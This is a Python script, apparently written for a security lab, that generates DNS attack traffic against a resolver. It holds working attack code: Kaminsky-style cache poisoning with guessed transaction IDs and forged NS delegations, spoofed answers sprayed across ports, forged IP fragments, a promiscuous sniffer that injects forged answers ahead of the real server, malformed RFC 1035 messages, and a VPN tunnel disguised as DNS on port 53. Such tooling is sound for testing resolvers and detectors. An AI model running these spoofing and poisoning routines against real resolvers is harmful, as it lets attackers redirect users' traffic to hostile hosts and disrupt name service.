#!/usr/bin/env python3
"""Forged answers, and what is no DNS, for the lab.

forge.py guess|ports|fragments|inject|malformed|far_end|vpn …; all but the vpn need root.
"""

import argparse
import random
import socket
import struct
import sys
import time

from packets import A, NS, Sender, answer, paced, question

FORGED = socket.inet_aton("203.0.113.66")


def delegation(number, text):
    """An answer that hands the zone to another server, by way of a sibling (Kaminsky 2008)."""
    zone = text.split(".", 1)[1]
    server = b"".join(bytes([len(part)]) + part.encode() for part in ("ns." + zone).split(".")) + b"\0"
    packet = bytearray(answer(number, text, [(A, 86400, FORGED)]))
    packet[8:12] = struct.pack(">HH", 1, 1)
    behind = 12 + len(text.split(".")[0]) + 1
    at = struct.pack(">H", 0xC000 | behind)
    return (bytes(packet) + at + struct.pack(">HHIH", NS, 1, 86400, len(server)) + server
            + server + struct.pack(">HHIH", A, 1, 86400, 4) + FORGED)


def guess(given, rng, sender):
    """Answers with guessed ids for one sibling after the other, while each is asked."""
    each = given.count // given.names
    for n in paced(given.count, given.rate):
        packet = delegation(rng.randrange(65536), f"x{n // each}.{given.name}")
        sender.udp(given.source, 53, given.to, given.port, packet)


def ports(given, rng, sender):
    """Answers to one port after the other: which one waits shows by what does not come back."""
    for n in paced(given.count, given.rate):
        packet = answer(rng.randrange(65536), given.name, [(A, 60, FORGED)])
        sender.udp(given.source, 53, given.to, 20000 + n, packet)


def fragments(given, _rng, sender):
    """Ends of long answers, before these are sent: the id of the datagram is all that is guessed."""
    end = struct.pack(">HHIH", A, 1, 86400, 4) + FORGED
    for n in paced(given.count, given.rate):
        number = (given.port + n) % 65536
        sender.ip(given.source, given.to, 17, bytes(984) + end, number, 1480)


def inject(given, _rng, sender):
    """Hears every question on the wire and answers those for one zone first."""
    heard = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    heard.bind(("eth0", 0))
    promiscuous = struct.pack("iHH8s", socket.if_nametoindex("eth0"), 1, 0, b"")
    heard.setsockopt(263, 1, promiscuous)  # SOL_PACKET, PACKET_ADD_MEMBERSHIP
    print("listening", flush=True)
    zone = given.name.split(".")[0].encode()
    while True:
        frame = heard.recv(2048)[14:]
        if frame[9] != 17 or struct.unpack_from(">H", frame, 22)[0] != 53 or zone not in frame:
            continue
        client, server = socket.inet_ntoa(frame[12:16]), socket.inet_ntoa(frame[16:20])
        if server != given.source:
            continue
        message, sport = frame[28:], struct.unpack_from(">H", frame, 20)[0]
        labels, at = [], 12
        while message[at]:
            labels.append(message[at + 1:at + 1 + message[at]].decode())
            at += 1 + message[at]
        number = struct.unpack_from(">H", message)[0]
        packet = answer(number, ".".join(labels), [(A, 86400, FORGED)])
        sender.udp(server, 53, client, sport, packet)


def malformed(given, rng, sender):
    """Messages that break one rule of RFC 1035 each."""
    whole = question(1, "www.acme-widgets.com", A, 1232)
    kinds = [
        whole[:12] + b"\xc0\x40" + whole[34:],           # a pointer forward
        whole[:12] + b"\x43abc" + whole[16:],            # a reserved kind of label
        whole[:20],                                      # a name that ends behind the message
        whole[:4] + b"\0\x01\xff\xff\0\0\0\0" + whole[12:],  # more answers than there is room for
        whole[:12] + (b"\x3f" + b"a" * 63) * 5 + b"\0\0\x01\0\x01",  # a name over 255 octets
        whole + whole[38:],                              # two OPT records
    ]
    for n in paced(given.count, given.rate):
        packet = bytearray(kinds[n % len(kinds)])
        packet[:2] = struct.pack(">H", rng.randrange(65536))
        if n % len(kinds) == 5:
            packet[11] = 2
        sender.udp(given.source, 30000 + n, given.to, 53, bytes(packet))


def far_end(given, rng, _sender):
    """The far end of a tunnel with WireGuard's messages (its paper, section 5.4)."""
    served = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    served.bind((given.to, 53))
    print("listening", flush=True)
    while True:
        message, to = served.recvfrom(4096)
        length = {148: 92}.get(len(message), 16 * rng.randint(2, 60))
        kind = 2 if length == 92 and len(message) == 148 else 4
        served.sendto(struct.pack("<I", kind) + rng.randbytes(length - 4), to)


def vpn(given, rng, _sender):
    """The near end: a handshake, then data."""
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.connect((given.to, 53))
    asking.send(struct.pack("<I", 1) + rng.randbytes(144))
    for _ in paced(given.count, given.rate):
        asking.send(struct.pack("<I", 4) + rng.randbytes(16 * rng.randint(2, 40) - 4))


def main():
    kinds = {"guess": guess, "ports": ports, "fragments": fragments, "inject": inject,
             "malformed": malformed, "far_end": far_end, "vpn": vpn}
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("what", choices=kinds)
    parser.add_argument("--to", help="the host that gets the packets")
    parser.add_argument("--port", type=int, default=5300, help="the port it asks from")
    parser.add_argument("--source", help="the host in whose name they are sent")
    parser.add_argument("--name", default="slow-bank.com")
    parser.add_argument("--names", type=int, default=12)
    parser.add_argument("--count", type=int, default=300)
    parser.add_argument("--rate", type=float, default=100, help="packets a second")
    given = parser.parse_args()
    sender = None if given.what in ("vpn", "far_end") else Sender()
    kinds[given.what](given, random.Random(53), sender)


if __name__ == "__main__":
    main()
